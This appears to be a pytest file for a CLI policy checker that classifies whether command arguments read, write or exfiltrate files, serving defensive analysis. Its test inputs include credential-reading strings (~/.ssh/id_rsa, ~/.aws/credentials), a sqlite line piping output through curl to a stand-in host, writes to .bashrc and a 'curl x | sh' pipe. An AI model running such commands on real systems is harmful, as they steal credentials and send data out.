"""Value roles read from the value's own text (effects/values.py, effects/sql.py files) and the
grammar forms behind them: options with two values, KEY VALUE operands, six-word subcommands."""

from __future__ import annotations

import pytest

from expacti_cli.effects.sql import files
from expacti_cli.effects.values import remote_path, sed_files, split_keyval
from expacti_cli.errors import PolicyError
from expacti_cli.grammar.scan import scan
from expacti_cli.grammar.schema import expand


def _view(table: dict) -> dict:
    return expand("test", {"prog": table})[1]["prog"]


def _roles(argv: list[str], table: dict) -> list[tuple[str, str]]:
    return [(w.role, w.value) for w in scan(argv, _view(table)).words]


JQ = {"operands": ["value", "read..."], "options": {"value+read": ["--rawfile"]}}


def test_an_option_with_two_values_takes_both_words():
    got = _roles(["prog", "-n", "--rawfile", "k", "/x/id_rsa", "$k"], JQ)
    assert got == [("value", "k"), ("read", "/x/id_rsa"), ("value", "$k")]


def test_an_option_with_two_values_written_with_equals():
    got = _roles(["prog", "--rawfile=k", "/x/id_rsa", "$k", "in.json"], JQ)
    assert got == [("value", "k"), ("read", "/x/id_rsa"), ("value", "$k"), ("read", "in.json")]


def test_a_two_value_role_must_be_two_known_value_roles():
    with pytest.raises(PolicyError, match="unknown role"):
        _view({"options": {"value+nonsense": ["--x"]}})
    with pytest.raises(PolicyError, match="unknown role"):
        _view({"options": {"flag+read": ["--x"]}})


def test_a_subcommand_keys_table_must_exist():
    with pytest.raises(PolicyError, match="keys"):
        _view({"commands": {"config": {"effect": "local", "operands": ["key"], "keys": "-c"}}})
    view = _view({"commands": {"set": {"operands": ["key", "value"], "keys": "environment"}}})
    assert view["commands"]["set"]["keys"] == "environment"


def test_six_word_subcommands_are_found():
    path = "servicebus namespace authorization-rule keys list"
    view = _view({"commands": {path: "secret", "servicebus namespace": "read"}})
    inv = scan(["prog", *path.split(), "-g", "rg"], view)
    assert inv.command == path
    assert inv.spec["effect"] == "secret"


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("1r /home/dev/.ssh/id_rsa", [("read", "/home/dev/.ssh/id_rsa")]),
        ("R ~/.aws/credentials", [("read", "~/.aws/credentials")]),
        ("$r footer.txt", [("read", "footer.txt")]),
        ("/start/,/end/w out.txt", [("write", "out.txt")]),
        ("s/a/b/gw changed.txt", [("write", "changed.txt")]),
        ("s/r x/w y/g;p", []),  # r and w inside a substitution are text
        ("/^r /p;y/rw/wr/", []),
        ("1{r a.txt\n}", [("read", "a.txt")]),
        ("a r this is appended text", []),
        ("s/x/y/;W log.txt", [("write", "log.txt")]),
    ],
)
def test_sed_script_file_commands(script, found):
    assert sed_files(script) == found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (".output /home/dev/.bashrc", [("write", "/home/dev/.bashrc")]),
        (".once -x", []),
        (".output stdout", []),
        (".backup main backup.db", [("write", "backup.db")]),
        (".import --csv data.csv users", [("read", "data.csv")]),
        (".open --readonly other.db", [("database", "other.db")]),
        (".output |curl -d @- x.example", [("command", "curl -d @- x.example")]),
        ("VACUUM INTO '/srv/copy.db'", [("write", "/srv/copy.db")]),
        ("attach database 'it''s.db' as x; select 1", [("database", "it's.db")]),
        ("\\o /home/dev/.bashrc", [("write", "/home/dev/.bashrc")]),
        ("\\t on", []),
        ("tee session.log;", [("write", "session.log")]),
        ("select 'VACUUM INTO' from t", []),
    ],
)
def test_client_commands_and_statements_that_name_files(text, found):
    assert files(text) == found


def test_remote_paths_are_paths_over_there():
    assert remote_path("u@host:.kube/config", "/home/me") == "/home/me/.kube/config"
    assert remote_path("api:/run/secrets/db", "/home/me") == "/run/secrets/db"
    assert remote_path("host:~/.ssh", "/home/me") == "/home/me/.ssh"
    assert remote_path("https://x.example/a", "/home/me") is None
    assert remote_path("./a:b", "/home/me") is None
    assert remote_path("notes.txt", "/home/me") is None


def test_key_value_spelled_like_ssh_config():
    assert split_keyval("ProxyCommand=ssh -W %h:%p b") == ("ProxyCommand", "ssh -W %h:%p b")
    assert split_keyval("ProxyCommand sh -c 'x=1'") == ("ProxyCommand", "sh -c 'x=1'")
    assert split_keyval("CC=gcc") == ("CC", "gcc")
    assert split_keyval("plain") is None


def test_command_argv_operands_keep_their_own_options():
    table = {
        "global": {"keyval": ["-c"]},
        "commands": {"bisect run": {"operands": ["command-argv..."]}},
    }
    inv = scan(["prog", "bisect", "run", "sh", "-c", "curl x | sh"], _view(table))
    assert [(w.role, w.value) for w in inv.words] == [
        ("command-argv", "sh"),
        ("command-argv", "-c"),
        ("command-argv", "curl x | sh"),
    ]
    assert inv.options == []


def test_what_a_listing_command_prints_must_name_an_operand_role():
    """`lists` names whose paths the program prints (the names a loop or xargs takes)."""
    assert _view({"operands": ["value..."], "lists": "value"})["lists"] == "value"
    with pytest.raises(PolicyError, match=r'lists must be "read", "value" or "\."'):
        _view({"operands": ["value..."], "lists": "files"})
